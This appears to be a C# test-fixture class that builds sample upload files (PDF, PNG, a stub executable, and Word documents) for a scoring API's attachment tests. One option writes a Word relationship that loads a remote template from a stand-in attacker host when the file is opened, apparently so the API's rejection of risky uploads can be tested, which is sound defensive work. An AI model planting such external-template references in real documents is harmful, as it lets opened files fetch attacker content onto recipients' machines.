using System.IO.Compression;
using System.Net.Http.Headers;
using System.Text;

namespace Scoring.Api.Tests.Attachments;

/// <summary>Evidence files for tests: a small real PDF, a PNG, Word documents (plain, with macros, with a remote template), a program.</summary>
internal static class EvidenceSamples
{
    /// <summary>A one-page PDF; <paramref name="padding"/> bytes of comment make it larger, <paramref name="tag"/> makes it distinct.</summary>
    public static byte[] Pdf(string tag = "", int padding = 0)
    {
        var text = new StringBuilder("%PDF-1.4\n");
        text.Append("1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n");
        text.Append("3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n");
        text.Append('%').Append(tag).Append('\n');
        if (padding > 0)
        {
            text.Append('%').Append('x', padding).Append('\n');
        }
        text.Append("trailer<</Root 1 0 R>>\n%%EOF\n");
        return Encoding.ASCII.GetBytes(text.ToString());
    }

    /// <summary>A 1×1 PNG.</summary>
    public static byte[] Png() => Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");

    /// <summary>A Windows program.</summary>
    public static byte[] Program() => [(byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0];

    /// <summary>A minimal Word document; with a VBA project, or with a template fetched from outside when opened.</summary>
    public static byte[] Docx(bool macros = false, bool remoteTemplate = false)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            void Add(string name, string content)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open(), new UTF8Encoding(false));
                writer.Write(content);
            }
            Add("[Content_Types].xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>
                """);
            Add("_rels/.rels", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>
                """);
            Add("word/document.xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Biên bản kiểm tra công tác dân vận</w:t></w:r></w:p></w:body></w:document>
                """);
            if (macros)
            {
                using var stream = zip.CreateEntry("word/vbaProject.bin").Open();
                stream.Write([0xD0, 0xCF, 0x11, 0xE0]);
            }
            if (remoteTemplate)
            {
                Add("word/_rels/settings.xml.rels", """
                    <?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>
                    """);
            }
        }
        return memory.ToArray();
    }

    /// <summary>The multipart form an agency's browser or script sends: the file and the items it proves.</summary>
    public static MultipartFormDataContent Form(byte[] bytes, string fileName, params string[] items)
    {
        var form = new MultipartFormDataContent();
        var file = new ByteArrayContent(bytes);
        file.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        form.Add(file, "file", fileName);
        foreach (var item in items)
        {
            form.Add(new StringContent(item), "items");
        }
        return form;
    }
}
